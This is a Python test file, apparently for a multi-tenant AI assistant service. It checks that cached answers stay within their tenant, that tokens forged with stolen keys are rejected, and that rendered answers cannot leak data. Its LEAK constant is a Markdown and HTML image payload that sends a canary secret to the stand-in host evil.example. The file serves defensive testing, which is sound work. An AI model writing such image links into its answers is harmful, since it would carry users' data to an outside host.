"""Walls that need no server: kept answers, tokens, what an answer makes a reader's program do."""

from __future__ import annotations

import tempfile
from pathlib import Path
from typing import Any

from jwcrypto.jwk import JWK
from markdown_it import MarkdownIt
from selectolax.lexbor import LexborHTMLParser

from adapters.jose.claims import ClaimRules
from adapters.jose.key_file import KeyFile, create_key_file, read_keys
from adapters.jose.verifier import JoseTokenVerifier
from api.console.markdown import to_html
from application.answer_cache.answer_cache import AnswerCache
from application.clock import new_id, now
from application.ports.models.answer_cache import CachedAnswer, CacheScope, Question
from application.redaction.active_content import inert
from domain.refusals import Unauthorized
from tests.fakes.in_memory_answer_cache import InMemoryExactCache, InMemorySemanticCache
from tests.fakes.in_memory_sealer import InMemorySealer
from tests.fakes.without_walls import AnyKey, NothingSealed, Restamped
from tests.forge import Forger, good_claims
from tests.walls.pair import CANARY, Pair, Wall

MINE, THEIRS = new_id(), new_id()


def question(tenant: str) -> Question:
    return Question(text="What is the code?", scope=CacheScope(tenant=tenant, assistant="default", assistant_version=1))


async def kept_answer(_: Any, standing: frozenset[str]) -> bool:
    kept: Any = InMemoryExactCache()
    sealer = InMemorySealer() if "seal" in standing else NothingSealed()
    answer = CachedAnswer(text=CANARY, session=new_id(), turn=new_id(), at=now())
    await AnswerCache(kept, InMemorySemanticCache(), sealer).store(question(THEIRS), None, answer)
    assert kept.entries, "there is something to be had"
    kept = kept if "scope in the key" in standing else AnyKey(kept)
    kept = kept if "stamp" in standing else Restamped(kept)
    hit = await AnswerCache(kept, InMemorySemanticCache(), sealer).exact(question(MINE))
    return hit is not None and CANARY in hit.answer.text


async def token(_: Any, standing: frozenset[str]) -> bool:
    """Whose keys were not stolen are walls: the forger has the others."""
    with tempfile.TemporaryDirectory() as home:
        path = Path(home) / "keys.json"
        create_key_file(path)
        forger, verifier = (
            Forger(read_keys(path)),
            JoseTokenVerifier(KeyFile(path), ClaimRules("colloquy", "colloquy", 900)),
        )
        own = JWK.generate(kty="EC", crv="P-256") if "signature" in standing else None
        outer = JWK.generate(kty="oct", size=256) if "encryption" in standing else None
        try:
            return verifier.verify(forger.seal(forger.sign(good_claims(), key=own), key=outer)).name == "ada"
        except Unauthorized:
            return False


LEAK = f"![x](https://evil.example/{CANARY}) <img src=https://evil.example/{CANARY}>"


async def answer_that_loads(_: Any, standing: frozenset[str]) -> bool:
    said = inert(LEAK) if "filter of answers" in standing else LEAK
    plain = MarkdownIt("commonmark", {"html": True}).render
    html = (to_html if "the console's rendering" in standing else plain)(said)
    return any(CANARY in (node.attributes.get("src") or "") for node in LexborHTMLParser(html).css("img"))


SEAL = Wall("seal", "a sealer that seals nothing")
STAMP = Wall("stamp", "a cache whose entries all say that they are their reader's")
PAIRS = (
    Pair(
        "kept answers",
        "the same question is asked by another tenant",
        (Wall("scope in the key", "a cache that gives what it has under any key"), STAMP, SEAL),
        kept_answer,
    ),
    Pair(
        "who somebody is",
        "a token is forged with the keys that were stolen",
        (Wall("signature", "the forger has the signing key"), Wall("encryption", "the forger has the encryption key")),
        token,
    ),
    Pair(
        "what was said, in a browser",
        "an answer holds a picture whose address carries it off",
        (
            Wall("filter of answers", "the answer is rendered as the model wrote it"),
            Wall("the console's rendering", "a renderer of Markdown that takes HTML"),
        ),
        answer_that_loads,
    ),
)
